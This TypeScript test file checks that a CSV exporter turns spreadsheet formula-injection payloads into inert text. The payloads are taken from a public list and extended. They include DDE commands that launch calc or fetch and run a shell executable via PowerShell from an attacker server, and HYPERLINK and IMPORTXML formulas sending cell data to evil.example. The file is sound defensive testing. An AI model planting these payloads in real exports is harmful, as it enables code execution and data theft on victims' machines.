import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf, plainCell } from '../../src/domain/csv.js';

/**
 * Every formula of the payload list in swisskyrepo/PayloadsAllTheThings, `CSV Injection/README.md` (commit 01a6299), and each sign that it says a formula can be
 * started with. Its one line without such a sign, `DDE ("cmd";…`, is no formula by itself and has the sign here.
 */
const published = [
  '=1+1',
  '+1+1',
  '–1+1',
  '@SUM(1+1)',
  '=DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=2+5+cmd|' /C calc'!A0",
  "=cmd|' /C calc'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  '=AAAA+BBBB-CCCC&"Hello"/12345&cmd|\'/c calc.exe\'!A',
  "=cmd|'/c calc.exe'!A*cmd|'/c calc.exe'!A",
  "=         cmd|'/c calc.exe'!A",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=rundll321234567890abcdefghijklmnopqrstuvwxyz|'URL.dll,OpenURL calc.exe'!A",
  "=    C    m D                    |        '/        c       c  al  c      .  e                  x       e  '   !   A",
  '=IMPORTXML("http://burp.collaborator.net/csv", "//a/@href")',
];

/** What we add: forms and places that exporters are known to miss. */
const ours = [
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example?v=", CONCATENATE(A2:E2)), "//a/a10")',
  '=DDE("cmd";"/C calc";"!A0")A0',
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|' /C notepad'!'A1'",
  "=cmd|'/C powershell IEX(wget attacker_server/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!D2",
  "-cmd|'/C calc'!A0",
  '%0A=1+1',
  "|cmd|'/C calc'!A0",
  ';=1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\0=1+1',
  '\u200b=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  '−1+1',
  '—1+1',
  '﹦1+1',
  '﹢1+1',
  '﹣1+1',
  '﹫SUM(1)',
  '"=1+1',
  "'=1+1",
  'harmless\n=1+1',
  'harmless\r\n@SUM(A1)',
  "harmless\r=cmd|' /C calc'!A0",
  '\t\t\0\ufeff =1+1',
];

const attacks = [...published, ...ours.filter((attack) => !published.includes(attack))];

/** A reader that knows RFC 4180 and nothing else. */
function parse(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  const cell = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n|$)/y;
  while (cell.lastIndex < text.length) {
    const match = cell.exec(text);
    if (!match) throw new Error(`No cell at ${cell.lastIndex}.`);
    const [, raw = '', end] = match;
    row.push(raw.startsWith('"') ? raw.slice(1, -1).replaceAll('""', '"') : raw);
    if (end !== ',') {
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

/** Whether a spreadsheet would calculate a cell, on any of its lines, once it has passed over what it passes over. */
function calculates(cell: string): boolean {
  return cell
    .split(/\r\n|[\r\n]/)
    .some((line) => /^[\s\p{Cc}\p{Cf}]*[=+\-–—@＝＋－＠−﹦﹢﹣﹫]/u.test(line) || /^[\t\0]/.test(line));
}

describe('an exported cell', () => {
  it.each(attacks)('%j is text, and comes back as it was', (attack) => {
    const [[first = '', second = ''] = []] = parse(csvOf([[attack, 'next']]));
    expect(calculates(first)).toBe(false);
    expect(plainCell(first)).toBe(attack);
    expect(second).toBe('next');
  });

  it('control: most of the attacks would be calculated if they were written as they are', () => {
    expect(attacks.filter((attack) => calculates(attack)).length).toBeGreaterThan(25);
  });

  it('whatever it holds is never calculated, ends no row and comes back as it was', () => {
    const piece = fc.oneof(
      fc.constantFrom(
        '=',
        '+',
        '-',
        '@',
        '＝',
        '\t',
        '\r',
        '\n',
        '\0',
        '\ufeff',
        ' ',
        '"',
        "'",
        ',',
        ';',
        '1',
      ),
      fc.string({ maxLength: 3, unit: 'binary' }),
    );
    const cell = fc.array(piece, { maxLength: 8 }).map((pieces) => pieces.join(''));
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }),
        (rows) => {
          const read = parse(csvOf(rows));
          expect(read.flat().filter((text) => calculates(text))).toEqual([]);
          expect(read.map((row) => row.map((text) => plainCell(text)))).toEqual(rows);
        },
      ),
      { numRuns: 20_000 },
    );
  });
});

describe('an identifier', () => {
  it.each(['353918051234561', '035391805123456', '12E5', '0042', '99999999999999999'])(
    '%s keeps every digit in a spreadsheet, and comes back as it was',
    (number) => {
      const [[cell = ''] = []] = parse(csvOf([[number]]));
      expect(cell).toBe(`'${number}`);
      expect(plainCell(cell)).toBe(number);
    },
  );

  it.each(['R58N12ABCDE', 'LOAN-2026-004711', '4711', "O'Neill"])('%s stands as it is', (text) => {
    expect(csvOf([[text]])).toBe(text.includes("'") ? `"${text}"\r\n` : `${text}\r\n`);
  });
});

it('rows end in CRLF, and a byte order mark is there where it is asked for', () => {
  expect(
    csvOf(
      [
        ['a', 'b'],
        ['c', ''],
      ],
      { bom: true },
    ),
  ).toBe('\ufeffa,b\r\nc,\r\n');
});
